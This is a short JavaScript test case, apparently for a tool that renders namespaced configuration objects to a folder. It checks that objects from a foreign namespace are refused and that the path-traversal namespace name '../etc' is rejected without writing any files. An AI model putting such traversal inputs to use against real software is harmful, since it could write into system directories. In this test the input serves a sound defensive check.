  it('refuses objects of another namespace and unsafe namespace names', async () => {
    const objects = desiredState(project(), catalog);
    await expect(renderToFolder(dir, 'zy-other', objects)).rejects.toThrow(/is not in namespace zy-other/);
    await expect(renderToFolder(dir, '../etc', objects)).rejects.toThrow(/not a valid namespace name/);
    expect(fs.readdirSync(dir)).toEqual([]);
  });
});
